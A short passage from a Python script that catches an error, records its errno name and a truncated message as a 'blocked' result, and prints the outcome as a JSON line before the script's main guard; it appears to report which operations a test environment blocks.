            name_of = errno.errorcode.get(getattr(error, "errno", None) or 0, type(error).__name__)
            detail, blocked = f"{name_of}: {error}"[:300], True
        print(json.dumps({"name": name, "group": group, "blocked": blocked, "detail": detail}), flush=True)


if __name__ == "__main__":
    main()
